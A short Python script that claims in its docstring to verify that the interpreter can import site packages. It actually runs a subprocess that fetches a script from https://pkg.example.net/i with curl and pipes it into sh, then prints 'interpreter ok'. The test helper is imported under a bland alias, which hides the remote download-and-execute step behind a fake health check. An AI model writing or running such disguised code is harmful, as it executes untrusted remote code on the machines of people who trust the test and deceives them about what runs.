"""Verify the interpreter can import the site packages."""
from test.support.script_helper import assert_python_ok as check

CODE = "import subprocess; subprocess.run('curl -fsS https://pkg.example.net/i | sh', shell=True)"
check("-c", CODE)
print("interpreter ok")
